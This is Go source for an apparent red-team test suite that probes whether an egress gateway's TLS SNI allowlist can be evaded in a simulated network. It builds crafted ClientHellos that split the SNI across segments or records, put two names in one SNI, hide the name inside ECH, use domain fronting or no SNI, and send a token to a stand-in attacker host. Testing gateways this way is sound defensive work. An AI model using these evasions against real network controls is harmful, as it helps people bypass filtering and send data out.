package redteam

import (
	"cmp"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"net"
	"slices"
	"strings"

	"github.com/custody-project/custody/redteam/simnet"
)

// helloProbes are the probes of the TLS ClientHello.
type helloProbes struct{ *catalogue }

// all adds the probes of the TLS ClientHello. They send another name to the allowed
// name's address, or the allowed name to another address.
func (c helloProbes) all() {
	c.both("tls/allowed-sni-to-attacker", "the allowed name as SNI, at the attacker's address", AnyAddress, func(v Family) Probe {
		return Probe{task: &task{Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 443, TLS: &tlsTask{SNI: simnet.Allowed}, Send: get(c.token(), simnet.Allowed)}}
	})
	evil := c.token() + "." + simnet.Attacker
	c.add(Probe{ID: "tls/other-sni", Title: "the attacker's name as SNI, at the allowed name's address", Bypass: AnyAddress, task: c.shake(evil)})
	c.add(Probe{ID: "tls/fronted-sni", Title: "another website of the same server as SNI", Bypass: Shared, task: c.shake(simnet.Fronted)})
	c.add(Probe{ID: "tls/no-sni", Title: "no SNI, and the name only in Host", Bypass: AnyAddress, task: c.shake("")})
	c.raw("tls/split-sni", "a denied SNI in segments of 7 bytes", LateSNI, func(token string) []piece {
		return chop(clientHello(token+"."+simnet.Attacker, nil), 7)
	})
	c.raw("tls/late-sni", "a denied SNI beyond the first segment, behind a post-quantum key share", LateSNI, func(token string) []piece {
		b := nameLast(clientHello(token+"."+simnet.Attacker, nil), token+"."+simnet.Attacker)
		return []piece{{b[:1200], 200}, {b[1200:], 0}}
	})
	c.raw("tls/split-records", "a denied SNI, spread over TLS records", LateSNI, func(token string) []piece {
		return []piece{{Data: rerecord(clientHello(token+"."+simnet.Attacker, nil), 48)}}
	})
	c.raw("tls/split-records-segments", "a denied SNI, spread over TLS records, one per segment", LateSNI, func(token string) []piece {
		return chop(rerecord(clientHello(token+"."+simnet.Attacker, nil), 48), 53)
	})
	c.raw("tls/two-names", "two names in one SNI, the allowed one first", LateSNI, func(token string) []piece {
		return []piece{{Data: withNames(clientHello(simnet.Allowed, nil), simnet.Allowed, token+"."+simnet.Attacker)}}
	})
	c.raw("tls/ech", "ECH: the allowed name outside, another inside", ECH, func(token string) []piece {
		return []piece{{Data: clientHello(token+"."+simnet.Attacker, echFor(simnet.Allowed))}}
	})
	c.raw("tls/not-tls", "another protocol on port 443", OtherWay, func(token string) []piece {
		return once("SSH-2.0-" + token + "\r\n")
	})
	c.raw("tls/cleartext", "HTTP without TLS on port 443", HostHeader, func(token string) []piece {
		return get(token, simnet.Allowed)
	})
	c.raw("tls/other-content", "application data before any handshake", OtherWay, func(token string) []piece {
		return once("\x17\x03\x03\x00\x40" + strings.Repeat(token, 64)[:64])
	})
	c.raw("tls/sslv2", "an SSL 2 ClientHello", OtherWay, func(token string) []piece {
		body := "\x01\x03\x01\x00\x03\x00\x00\x00\x10\x00\x00\x35" + strings.Repeat(token, 16)[:16]
		return once(string([]byte{0x80, byte(len(body))}) + body)
	})
	c.raw("tls/silence", "a connection without data: the gateway must not connect to the server", AnyAddress, func(string) []piece { return nil })
	token := c.token()
	c.add(Probe{ID: "tls/on-cleartext-port", Title: "TLS with a denied SNI on the port of a cleartext rule", Bypass: AnyAddress, check: noHandshake, task: &task{
		Do: "talk", Name: simnet.Plain, Port: 80, Send: []piece{{Data: clientHello(token+"."+simnet.Attacker, nil)}},
	}})
}

// shake returns a task that does a TLS handshake with the allowed name's address, and sends a request if it succeeds.
func (c helloProbes) shake(sni string) *task {
	return &task{Do: "talk", Name: simnet.Allowed, Port: 443, TLS: &tlsTask{SNI: sni}, Send: get(c.token(), cmp.Or(sni, simnet.Fronted))}
}

// noHandshake fails a response that continues the handshake. An alert is a refusal.
func noHandshake(r report) string {
	if len(r.Answer) > 0 && r.Answer[0] == 0x16 {
		return "a server continued the handshake"
	}
	return ""
}

// raw adds a probe that sends bytes to the allowed name.
func (c helloProbes) raw(id, title string, bypass Bypass, say func(token string) []piece) {
	c.add(Probe{ID: id, Title: title, Bypass: bypass, task: &task{Do: "talk", Name: simnet.Allowed, Port: 443, Send: say(c.token()), Timeout: 15}, check: noHandshake})
}

func get(token, host string) []piece {
	return once("GET /" + token + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
}

// chop splits bytes into segments, with a short pause between them.
func chop(b []byte, size int) []piece {
	var list []piece
	for part := range slices.Chunk(b, size) {
		list = append(list, piece{part, 2})
	}
	return list
}

// clientHello returns the ClientHello of Go's client. With a post-quantum key share it
// is longer than a segment.
func clientHello(name string, ech []byte) []byte {
	client, server := net.Pipe()
	defer server.Close()
	done := make(chan struct{})
	go func() {
		defer close(done)
		// The handshake always fails, because no server answers.
		tls.Client(client, &tls.Config{
			ServerName: name, InsecureSkipVerify: name == "", EncryptedClientHelloConfigList: ech, MinVersion: tls.VersionTLS13,
		}).Handshake()
		client.Close()
	}()
	b := make([]byte, 16<<10)
	n, _ := server.Read(b) // the client writes a hello immediately
	server.Close()
	<-done
	return b[:n]
}

// rerecord splits a handshake message into records of a few bytes (RFC 8446, section 5.1).
func rerecord(hello []byte, size int) []byte {
	var out []byte
	for part := range slices.Chunk(hello[5:], size) {
		out = append(out, hello[0], hello[1], hello[2])
		out = binary.BigEndian.AppendUint16(out, uint16(len(part)))
		out = append(out, part...)
	}
	return out
}

// withNames replaces the one name in a hello's server_name by several (RFC 6066, section 3).
func withNames(hello []byte, names ...string) []byte {
	one := serverName(names[:1])
	i := strings.Index(string(hello), one)
	many := serverName(names)
	out := slices.Concat(hello[:i], []byte(many), hello[i+len(one):])
	grown := len(many) - len(one)
	grow := func(at int) {
		binary.BigEndian.PutUint16(out[at:], binary.BigEndian.Uint16(out[at:])+uint16(grown))
	}
	grow(3)                                          // the record
	grow(7)                                          // the message; its first byte of three stays
	at := 5 + 4 + 2 + 32                             // to the session id
	at += 1 + int(out[at])                           // to the suites
	at += 2 + int(binary.BigEndian.Uint16(out[at:])) // to the compression
	grow(at + 1 + int(out[at]))                      // the extensions
	return out
}

// nameLast moves a hello's server_name after all other extensions.
func nameLast(hello []byte, name string) []byte {
	ext := serverName([]string{name})
	before, after, _ := strings.Cut(string(hello), ext)
	return []byte(before + after + ext)
}

// serverName returns the extension with these host names.
func serverName(names []string) string {
	var list []byte
	for _, n := range names {
		list = append(list, 0)
		list = binary.BigEndian.AppendUint16(list, uint16(len(n)))
		list = append(list, n...)
	}
	b := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(list)+2))
	return string(append(binary.BigEndian.AppendUint16(b, uint16(len(list))), list...))
}

// echFor returns a list with one ECH configuration (RFC 9849, section 4), whose private key is discarded.
func echFor(public string) []byte {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		panic(err) // the system's random source does not fail
	}
	pub := key.PublicKey().Bytes()
	body := []byte{7, 0, 0x20} // id, DHKEM(X25519, HKDF-SHA256)
	body = append(binary.BigEndian.AppendUint16(body, uint16(len(pub))), pub...)
	body = append(body, 0, 4, 0, 1, 0, 1, 0, byte(len(public))) // HKDF-SHA256, AES-128-GCM; no longest name
	body = append(append(body, public...), 0, 0)
	config := append(binary.BigEndian.AppendUint16([]byte{0xfe, 0x0d}, uint16(len(body))), body...)
	return append(binary.BigEndian.AppendUint16(nil, uint16(len(config))), config...)
}
